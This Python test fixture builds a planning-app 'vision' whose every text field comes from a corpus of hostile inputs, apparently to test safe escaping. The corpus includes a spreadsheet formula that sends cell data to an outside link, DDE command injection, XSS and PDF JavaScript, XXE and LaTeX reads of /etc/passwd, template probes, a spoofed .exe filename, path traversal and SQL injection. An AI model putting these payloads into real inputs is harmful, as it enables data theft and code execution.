"""A vision whose every text is meant to do harm, or to be hard to print."""

from functools import cache

from path_planner.domain.base import clean
from path_planner.domain.vision.plan import Action, Outcome
from path_planner.domain.vision.sources import Drawing, MissingGroup
from path_planner.domain.vision.theme import Cause, Disagreement, Side, Theme
from path_planner.domain.vision.vision import AboutVision, Limits, Member, Vision
from path_planner.domain.vision.voting import Priority, VoteRound
from path_planner.domain.voice import Share
from tests.analysis.visions import a_source, a_vision, a_voice, placed

CORPUS = (
    '=HYPERLINK("http://example.org?x="&A1,"press")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</text><script xlink:href='http://example.org'/>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "]]></w:t><w:instrText>AUTHOR</w:instrText>",
    "&lt;b&gt; &amp; &#x41; %41 \\u0041",
    "[press](javascript:alert(1)) **bold** # head `code` | a | b |",
    "\\input{/etc/passwd} $x^2$ \\textbf{bold} 100%",
    "{{7*7}} ${7*7} {0} {name} %s %(x)s",
    "https://example.org/a?b=c#d javascript:alert(1) file:///etc/passwd",
    "(Tj) ET Q endstream endobj >> /JS (app.alert(1))",
    "abc\u202egnp.exe and \u2066inside\u2069 and \u200fmark",
    "zero\u200bwidth\u200djoined\u2060here\ufeffand\u00adsoft",
    "👩🏽‍🦽 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿 🇬🇧 ☎️ 1️⃣",
    "مرحبا بالعالم ١٢٣ (abc) 12",
    "میرا گھر — my home — میرا گھر",
    "我的家在河边。我们喜欢它。",
    "আমার বাড়ি ਮੇਰਾ ਘਰ மொழி ગુજરાતી",
    "Ẑ̸̧̛͍a̷͜͝l̴̢͠g̵̨͘o̶͚͝",
    "W" * 290,
    "../../etc/passwd C:\\x CON.txt \\\\host\\share",
    "'; DROP TABLE voices; -- \" ' `",
    "null\x00bell\x07escape\x1b[31m\x85\u2028\u2029\ufffe\uffff",
)


@cache
def hostile() -> Vision:
    """Return a vision in which every text is of the corpus."""
    texts = [str(clean(text)) for text in CORPUS]
    ids = [f"{number}" for number in range(len(texts))]
    at = dict(zip(ids, texts, strict=True))
    line = {one: " ".join(text.split()) for one, text in at.items()}
    some = ids[:6]
    return a_vision(
        about=AboutVision(
            title=line["6"], community=line["0"], summary=at["9"], vision=at["12"], how=at["16"]
        ),
        limits=Limits(promise=at["0"], budget=at["6"], can_change=at["17"]),
        steering=[Member(id=f"k{one}", name=line[one], printed=True) for one in some],
        sources=[
            a_source(
                f"s{one}",
                place=line[one],
                group=line[one],
                people=9,
                agreed={"share": True, "drawings": True},
            )
            for one in ids
        ],
        voices=[
            a_voice(
                f"q{one}",
                f"s{one}",
                text=at[one],
                share=Share.NAMED,
                named=line[one][:80],
                language=line[one][:40],
                alone=number % 3 == 0,
            )
            for number, one in enumerate(ids)
        ],
        drawings=[
            Drawing(id=f"f{one}", source=f"s{one}", words=at[one], width=10, height=10)
            for one in some
        ],
        unheard=[MissingGroup(id=f"u{one}", who=line[one], why=at[one]) for one in some],
        themes=[
            Theme(id=f"t{one}", name=line[one][:200], statement=at[one], picture=line[one][:40])
            for one in ids
        ],
        placings=[placed(f"q{one}", f"t{one}") for one in ids],
        causes=[Cause(id=f"c{one}", theme=f"t{one}", text=at[one]) for one in some],
        disagreements=[
            Disagreement(id="d1", about=at["7"], one=Side(words=at["8"]), other=Side(words=at["9"]))
        ],
        priorities=[
            Priority(id=f"p{one}", title=line[one], themes=(f"t{one}",), why=at[one], chosen=True)
            for one in some
        ],
        votes=[
            VoteRound(
                id="r1", question=line["0"], options=tuple(f"p{one}" for one in some), open=False
            )
        ],
        actions=[
            Action(id=f"a{one}", what=at[one], who=line[one], priorities=(f"p{one}",))
            for one in some
        ],
        outcomes=[
            Outcome(id=f"o{one}", statement=at[one], measure=at[one], priorities=(f"p{one}",))
            for one in some
        ],
    )
